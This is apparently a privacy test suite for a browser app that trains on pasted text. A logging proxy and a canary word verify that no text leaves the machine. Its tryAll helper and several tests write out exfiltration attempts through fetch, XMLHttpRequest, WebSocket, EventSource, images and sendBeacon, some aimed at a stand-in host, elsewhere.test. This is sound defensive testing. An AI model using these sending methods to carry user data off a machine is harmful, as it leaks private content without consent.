/**
 * Nothing of a text leaves the machine: all that the browser asks for goes through a proxy that writes it down, a
 * canary is in the text, and attempts to send it must fail where they should and be seen where they should not.
 */

import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { createServer, request as forward } from "node:http";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import {
  atStep,
  banner,
  close,
  download,
  downloadButton,
  open,
  SMALL,
  savedLog,
  startButton,
  trained,
  trap,
  written,
} from "./browser.mjs";
import { dist, plainHost } from "./plain_host.mjs";

const CANARY = "xylophonecanary";
const TEXT = `The ${CANARY} sang at dawn, and the ${CANARY} sang at dusk, for nobody and for all. `.repeat(60);
const HASH = `#${SMALL}&steps=6&evalEvery=3&sampleEvery=6`;
/** Chromium asks its maker how boxes are filled in, by hashes of their names. No page can keep it from that. */
const OF_CHROMIUM = "content-autofill.googleapis.com:443";
const ready = (page) => page.getByText("0 network requests since the page was ready").waitFor();

describe("privacy, on a host that sends no headers", () => {
  let host;
  let proxy;
  let page;
  before(async () => {
    host = await plainHost({ under: "/a/b/" });
    proxy = await loggingProxy();
    page = await open({ hash: HASH, at: host.address, offline: true, proxy: { server: proxy.address } });
  });
  after(async () => {
    await close(page);
    proxy.stop();
    host.stop();
  });

  /** All but the browser's look for a newer version of the page. */
  const askedSince = (before) =>
    proxy.seen
      .slice(before)
      .map(({ url }) => url)
      .filter((url) => url !== `${host.address}service-worker.js`);

  test("a page that is not locked, and in a locked one a worker that is fetched, can send, and are seen", async () => {
    const proxy = await loggingProxy();
    const other = await open({ at: host.address, offline: true, blank: true, proxy: { server: proxy.address } });
    const leak = new URL("leak", host.address).href;
    const send = ([leak, canary]) => fetch(`${leak}?${canary}`);
    const post = ([leak, canary]) => fetch(leak, { method: "POST", body: btoa(`a${canary}`) });
    await other.evaluate(send, [leak, CANARY]);
    await other.evaluate(post, [leak, CANARY]);
    assert.equal(proxy.leaks().length, 2);

    const script = readdirSync(join(dist, "assets")).find((name) => /^worker-.*\.js$/.test(name));
    const starting = other.waitForEvent("worker");
    await other.evaluate((script) => {
      const policy = document.createElement("meta");
      policy.httpEquiv = "Content-Security-Policy";
      policy.content = "connect-src 'none'";
      document.head.append(policy);
      self.worker = new Worker(script, { type: "module" });
    }, `assets/${script}`);
    await assert.rejects(other.evaluate(send, [leak, CANARY]));
    await (await starting).evaluate(send, [leak, CANARY]);
    assert.equal(proxy.leaks().length, 3);
    await close(other);
    proxy.stop();
  });

  test("through a whole visit, nothing of the text is asked for", async () => {
    await ready(page);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await visit(page);
    await page.reload();
    await ready(page);
    await page.getByRole("button", { name: "My adapters (1)" }).click();
    await page.getByRole("button", { name: "Try it" }).click();
    await written(page);
    assert.deepEqual(proxy.leaks(), []);
    assert.deepEqual(
      page.requests.filter((url) => url.includes(CANARY)),
      [],
    );
    const elsewhere = proxy.seen.filter(({ url }) => !url.startsWith(host.address));
    assert.deepEqual(elsewhere, []);
    assert.ok(proxy.seen.length > 10 && proxy.seen.every(({ method, body }) => method === "GET" && body === ""));
    assert.deepEqual(page.faults, []);
    await ready(page);
  });

  test("the page and the workers that see the text can send nothing, to its own host neither", async () => {
    const before = proxy.seen.length;
    const leak = new URL(`leak?${CANARY}`, host.address).href;
    const elsewhere = `http://elsewhere.test/?${CANARY}`;
    for (const url of [leak, elsewhere]) {
      for (const where of [page, ...page.workers()]) {
        assert.equal(await where.evaluate(tryAll, url), "", `${where.url()} sent to ${url}`);
      }
    }
    assert.ok(page.workers().every((worker) => worker.url().startsWith("blob:")));
    assert.deepEqual(askedSince(before), []);
  });

  test("parts of the page from its own address can be asked for again, and the count shows it", async () => {
    const proxy = await loggingProxy();
    const other = await open({ at: host.address, proxy: { server: proxy.address } });
    await ready(other);
    const script = readdirSync(join(dist, "assets")).find((name) => /^hub-.*\.js$/.test(name));
    await other.evaluate((address) => import(address), `${host.address}assets/${script}?${CANARY}`);
    await other.evaluate((address) => {
      const image = new Image();
      image.src = address;
      return image.decode();
    }, `${host.address}icons/192.png?${CANARY}`);
    assert.equal(proxy.leaks().length, 2);
    await other.getByText("2 network requests since the page was ready, for parts of the page").waitFor();
    await close(other);
    proxy.stop();
  });

  test("offline, too", async () => {
    host.stop();
    const before = proxy.seen.length;
    await page.reload();
    await ready(page);
    await visit(page);
    assert.deepEqual(proxy.leaks(), []);
    assert.deepEqual(askedSince(before), []);
  });

  test("what is copied for others, and the log, hold no word of it", async () => {
    await page.getByLabel("How should it begin?").fill(`Ask the ${CANARY}`);
    await page.getByRole("button", { name: "Show: Train" }).click();
    // What the model wrote may well be in the log, and the page says so beside the button.
    const log = (await savedLog(page)).filter(({ type }) => type !== "sample");
    assert.ok(log.length > 10);
    assert.ok(!JSON.stringify(log).includes(CANARY), JSON.stringify(log));

    await page.getByRole("button", { name: "Change: The model" }).click();
    await page.getByText("Advanced").click();
    await page.getByLabel("Steps", { exact: true }).fill("60000");
    await page.getByRole("button", { name: "Show: Train" }).click();
    await page.getByRole("button", { name: /^Train again/ }).click();
    await atStep(page, 1);
    await trap(page);
    await banner(page, "train").getByText("Details").click();
    const facts = await banner(page, "train").locator("pre").textContent();
    assert.equal(JSON.parse(facts).code, "engine_lost");
    assert.ok(!facts.includes(CANARY), facts);
  });
});

/** A text is pasted and learnt, its adapter tried and downloaded. */
async function visit(page) {
  await page.getByLabel("Or paste it here").fill(TEXT);
  await page.getByRole("button", { name: "Read the pasted text" }).click();
  await page.getByRole("button", { name: "Use this text" }).click();
  await startButton(page).click();
  await trained(page);
  await written(page);
  await download(page, downloadButton(page));
}

/** Tries every way in which a script can send; returns those that worked. */
async function tryAll(url) {
  const ways = {
    fetch: () => fetch(url, { mode: "no-cors" }),
    XMLHttpRequest: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onload = resolve;
        request.onerror = reject;
        request.open("GET", url);
        request.send();
      }),
    WebSocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(url.replace("http", "ws"));
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    EventSource: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(url);
        source.onopen = resolve;
        source.onerror = reject;
      }),
    image: () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = url;
      }),
  };
  const worked = [];
  for (const [name, send] of Object.entries(ways))
    await send().then(
      () => worked.push(name),
      () => {},
    );
  // What it returns does not say whether anything is sent.
  self.navigator.sendBeacon?.(url, "x");
  return worked.join(", ");
}

/** A proxy that writes down every request, and passes on those to this machine. */
async function loggingProxy() {
  const seen = [];
  const server = createServer(async (request, response) => {
    const body = Buffer.concat(await request.toArray());
    const { method, url, headers } = request;
    seen.push({ method, url, headers: JSON.stringify(headers), body: body.toString("latin1") });
    const onward = forward(url, { method, headers }, (answer) => {
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    onward.on("error", () => response.writeHead(502).end());
    onward.end(body);
  });
  server.on("connect", ({ url }, socket) => {
    if (url !== OF_CHROMIUM) seen.push({ method: "CONNECT", url, headers: "", body: "" });
    socket.end("HTTP/1.1 502 Bad Gateway\r\n\r\n");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  // Base64 of the canary depends on where in a triple of bytes it begins.
  const forms = [CANARY, ...[0, 1, 2].map((before) => btoa("a".repeat(before) + CANARY).slice(before + 1, -4))];
  return {
    address: `http://127.0.0.1:${server.address().port}`,
    seen,
    leaks: () => seen.filter((each) => forms.some((form) => Object.values(each).some((part) => part.includes(form)))),
    stop: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}
